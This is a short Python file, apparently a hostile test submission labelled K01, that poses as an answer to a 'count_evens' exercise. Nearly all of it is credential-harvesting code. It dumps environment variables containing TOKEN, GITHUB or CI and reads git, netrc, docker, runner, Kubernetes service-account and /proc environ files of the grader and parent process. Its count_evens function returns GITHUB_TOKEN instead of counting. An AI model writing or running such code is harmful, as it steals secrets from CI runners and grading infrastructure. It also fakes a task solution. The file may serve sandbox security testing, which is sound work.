"""K01: reads the tokens of a CI runner: in the environment, in git's configuration, in the runner's files."""

# %% count_evens
import os, subprocess

print(
    {name: value for name, value in os.environ.items() if "TOKEN" in name or "GITHUB" in name or "CI" in name}
)
for path in (
    f"{COURSE}/.git/config",
    f"{HOME}/.netrc",
    f"{HOME}/.gitconfig",
    f"{HOME}/.docker/config.json",
    "/home/" + "runner/.credentials",
    f"/proc/{GRADER}/environ",
    f"/proc/{os.getppid()}/environ",
    "/github/workflow/event.json",
    "/run/secrets/token",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
):
    try:
        print(open(path).read())
    except OSError as error:
        print(error)


def count_evens(numbers):
    return os.environ.get("GITHUB_TOKEN", -1)
